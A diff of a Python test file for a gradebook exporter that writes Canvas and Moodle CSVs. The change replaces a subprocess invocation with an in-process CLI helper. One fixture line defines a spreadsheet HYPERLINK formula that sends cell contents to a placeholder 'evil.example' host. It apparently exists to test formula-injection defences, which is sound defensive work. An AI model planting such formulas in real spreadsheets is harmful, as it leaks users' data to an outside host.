@@ -4,8 +4,6 @@ Canvas's `Title (ID)` columns and "Points Possible" row, an empty cell (not 0) f
 import csv
 import io
 import re
-import subprocess
-import sys
 
 import pytest
 
@@ -16,7 +14,7 @@ from sourcebook.instructor.gradebook import FORMULA, canvas_csv, moodle_csv, tex
 from sourcebook.instructor.roster import load_roster
 from sourcebook.reading.workfile import new_work, write_work
 
-from .conftest import ROOT, copy_course_data
+from .conftest import ROOT, copy_course_data, sourcebook_cli
 
 A = "week-1-sourcing"
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -98,13 +96,8 @@ def test_without_a_roster_the_gradebooks_are_refused_unless_a_draft(course, tmp_
     out = tmp_path / "out"
     out.mkdir()
 
-    def overview(*options):
-        return subprocess.run(
-            [sys.executable, "-m", "sourcebook", "overview", *files, "--out", str(out / "r.html"), *options],
-            capture_output=True,
-            text=True,
-            cwd=ROOT,
-        )
+    def overview(*options):  # in this process, on the loaded course (test_classwork runs `overview` as a process)
+        return sourcebook_cli("--course", ROOT, "overview", *files, "--out", out / "r.html", *options, course=course)
 
     for lms, why in (("canvas", "Canvas user ID or SIS ID"), ("moodle", "e-mail address or ID number")):
         result = overview(f"--{lms}-csv", str(out / f"{lms}.csv"))
